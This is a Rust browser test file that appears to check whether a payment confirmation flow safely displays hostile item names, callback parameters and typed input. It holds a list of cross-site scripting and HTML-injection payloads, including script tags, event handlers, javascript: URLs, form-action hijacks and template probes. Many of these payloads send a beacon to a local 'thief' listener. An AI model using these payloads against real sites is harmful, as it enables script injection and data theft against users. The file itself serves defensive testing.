//! Texts that would run in a careless page: the item's name, the number in the callback's `ut`, and what
//! the payer types. They are shown, and do nothing.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::thread;

use serde_json::json;

use crate::control::new_user;
use crate::harness::{Browser, Listener, Sandbox, changed, sent_to_a_page, standard};

/// What each text tries to do: ask, leave a mark, rename the page, and tell somebody.
fn deed(thief: &Listener) -> String {
    let url = thief.url("/stolen");
    format!("alert(1);window.canary=1;document.title=`pwned`;new Image().src=`{url}`")
}

/// Texts that run where they stand for markup.
fn running(thief: &Listener) -> Vec<String> {
    let deed = deed(thief);
    vec![
        format!("<script>{deed}</script>"),
        format!("</p></main></body></html><script>{deed}</script>"),
        format!("\"><script>{deed}</script>"),
        format!("<img src=x onerror='{deed}'>"),
        format!("<svg onload='{deed}'>"),
        format!("<iframe srcdoc=\"<script>parent.eval('{deed}')</script>\"></iframe>"),
        format!("<input autofocus onfocus='{deed}'>"),
        format!("<img src=\"{}\">", thief.url("/pixel")),
        format!("<link rel=stylesheet href=\"{}\">", thief.url("/style")),
        format!("<style>@import url({});</style>", thief.url("/import")),
        format!(
            "<meta http-equiv=refresh content=\"0;url={}\">",
            thief.url("/refresh")
        ),
        format!("<object data=\"{}\"></object>", thief.url("/object")),
    ]
}

/// Texts that would run elsewhere, or only when they are pressed.
fn waiting(thief: &Listener) -> Vec<String> {
    let deed = deed(thief);
    let thief = thief.url("/form");
    vec![
        format!("\" autofocus onfocus=\"{deed}"),
        format!("' autofocus onfocus='{deed}"),
        format!("\" style=\"background:url({thief})"),
        format!("javascript:{deed}"),
        format!("<a href=\"javascript:{deed}\">Confirm</a>"),
        format!("<base href=\"{thief}\">"),
        format!("</form><form method=post action=\"{thief}\"><button class=first>Confirm</button>"),
        format!("<button class=first formaction=\"{thief}\">Confirm</button>"),
        format!("data:text/html,<script>{deed}</script>"),
        "&lt;script&gt; &amp; &#60;b&#62;".to_owned(),
        "<!-- ]]> --> <![CDATA[ {{7*7}} ${7*7} <%= 7*7 %>".to_owned(),
    ]
}

/// What the page did that it should not have done.
fn harm(browser: &Browser, title: &str, thief: &Listener) -> Option<String> {
    if browser.asks() {
        return Some("it asks".to_owned());
    }
    let found = browser.runs("return [document.title, window.canary || null]");
    let stolen = thief.so_far();
    if found != Ok(json!([title, null])) {
        Some(format!("title and mark are {found:?}"))
    } else if stolen.is_empty() {
        None
    } else {
        Some(format!("{stolen:?} was asked for"))
    }
}

/// At once, and until what was put off to a later turn of the page has had its own.
#[track_caller]
fn is_harmless(browser: &Browser, title: &str, thief: &Listener, name: &str) {
    assert_eq!(harm(browser, title, thief), None, "{name}");
    rests(browser, || {
        assert_eq!(harm(browser, title, thief), None, "{name}");
    });
    assert_eq!(harm(browser, title, thief), None, "{name}");
}

/// Waits until the page is loaded and has nothing to do, and looks at it meanwhile.
#[track_caller]
fn rests(browser: &Browser, look: impl Fn()) {
    let begins =
        "const rests = () => requestIdleCallback(() => setTimeout(() => { window.rested = 1; }));
        if (document.readyState === 'complete') rests(); else addEventListener('load', rests);";
    assert_eq!(browser.runs(begins), Ok(json!(null)));
    browser.waits_until("at rest", |browser| {
        look();
        browser.runs("return window.rested || null") == Ok(json!(1))
    });
}

/// Nobody came to the thief before the browser does so by its own address.
#[track_caller]
fn nothing_was_told(browser: &Browser, thief: &Listener) {
    browser.opens(&thief.url("/last"));
    let targets: Vec<_> = thief.so_far().into_iter().map(|told| told.target).collect();
    assert_eq!(targets, ["/last"]);
}

/// The page with what was typed in its one field comes again, and what was typed stands there.
#[track_caller]
fn is_refused(browser: &Browser, title: &str, thief: &Listener, typed: &str) {
    let script = "return !!document.querySelector('[role=alert]')";
    browser.waits_until("refused", |browser| browser.runs(script) == Ok(json!(true)));
    is_harmless(browser, title, thief, typed);
    assert_eq!(browser.runs(TYPED), Ok(json!(typed)));
}

const TYPED: &str = "return document.querySelector('input').value";

#[test]
fn an_items_name_is_shown_and_does_nothing() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let (sandbox, merchant, thief) = (Sandbox::start(), Listener::start(), Listener::start());
    let user = new_user(&sandbox, "447710900180");
    for (number, name) in [running(&thief), waiting(&thief)]
        .concat()
        .iter()
        .enumerate()
    {
        let body = standard(&user, &format!("t-{number}"));
        let mut body = changed(&body, "/paymentItems/0/itemName", json!(name));
        body["extensionData"] = json!({"callbackUrl": merchant.url("/callback")});
        let url = sandbox.authorize(&body).text_at("/parameters/url");
        browser.opens(&url);
        is_harmless(&browser, "Confirm your payment", &thief, name);
        let shown = browser.reads("main");
        assert!(
            squeezed(&shown).contains(&squeezed(name)),
            "{name} in {shown}"
        );
        // One in six walks on: the further pages are made like the first.
        if number % 6 == 0 {
            browser.clicks("button.first");
            let title = "Your ZIP code";
            browser.waits_until(title, |browser| browser.title() == title);
            is_harmless(&browser, title, &thief, name);
            browser.types("input", name);
            browser.clicks("button.first");
            is_refused(&browser, title, &thief, name);
            browser.clicks("button[value=cancel]");
            let callback = merchant.url("/callback?");
            browser.waits_until("back", |browser| browser.url().starts_with(&callback));
        }
    }
    nothing_was_told(&browser, &thief);
}

#[test]
fn a_number_that_is_suggested_or_typed_does_nothing() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let (sandbox, thief) = (Sandbox::start(), Listener::start());
    let title = "Your mobile number";
    for name in [running(&thief), waiting(&thief)].concat() {
        let mut callback = url::Url::parse("https://merchant.example/").expect("a URL");
        callback.query_pairs_mut().append_pair("ut", &name);
        let body = json!({"callbackUrl": callback.as_str()});
        let (_, url) = sent_to_a_page(&sandbox.identity(&body));
        browser.opens(&url);
        is_harmless(&browser, title, &thief, &name);
        assert_eq!(browser.runs(TYPED), Ok(json!(name)));
        if name.starts_with('"') {
            browser.clicks("button.first");
            is_refused(&browser, title, &thief, &name);
        }
    }
    nothing_was_told(&browser, &thief);
}

/// What a page does only some turns after it was loaded is seen by whoever waits until it rests.
#[test]
fn control_what_is_put_off_is_noticed() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let thief = Listener::start();
    for deed in ["window.canary=1", "document.title=`pwned`"] {
        let later = format!("addEventListener('load', () => setTimeout(() => {{ {deed} }}))");
        let page = format!("<title>Page</title><main><script>{later}</script></main>");
        browser.opens(&careless(page));
        rests(&browser, || ());
        assert!(harm(&browser, "Page", &thief).is_some(), "{deed}");
    }
}

/// A careless page with each text in it, and each sign of harm by itself: all are noticed.
#[test]
fn control_a_page_that_shows_them_as_markup_is_noticed() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let signs = |thief: &Listener| {
        let pixel = thief.url("/pixel");
        let single = ["alert(1)", "window.canary=1", "document.title=`pwned`"]
            .map(|deed| format!("<script>{deed}</script>"));
        let request = [format!("<script>new Image().src=`{pixel}`</script>")];
        [single.to_vec(), request.to_vec(), running(thief)].concat()
    };
    for number in 0..signs(&Listener::start()).len() {
        // What an earlier page asks for late must not count for this one.
        let thief = Listener::start();
        let name = &signs(&thief)[number];
        let page = format!("<title>Page</title><main><p>{name}</p></main>");
        // It may ask before it is open.
        let _ = browser.tries_to_open(&careless(page));
        browser.waits_until(&format!("harmed by {name}"), |browser| {
            harm(browser, "Page", &thief).is_some()
        });
        browser.dismisses();
    }
}

/// A server that shows this page to everybody.
fn careless(html: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = listener.local_addr().expect("an address");
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n{html}",
                html.len()
            );
        }
    });
    format!("http://{address}/")
}

/// Without white space, which a browser sets as it likes.
fn squeezed(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}
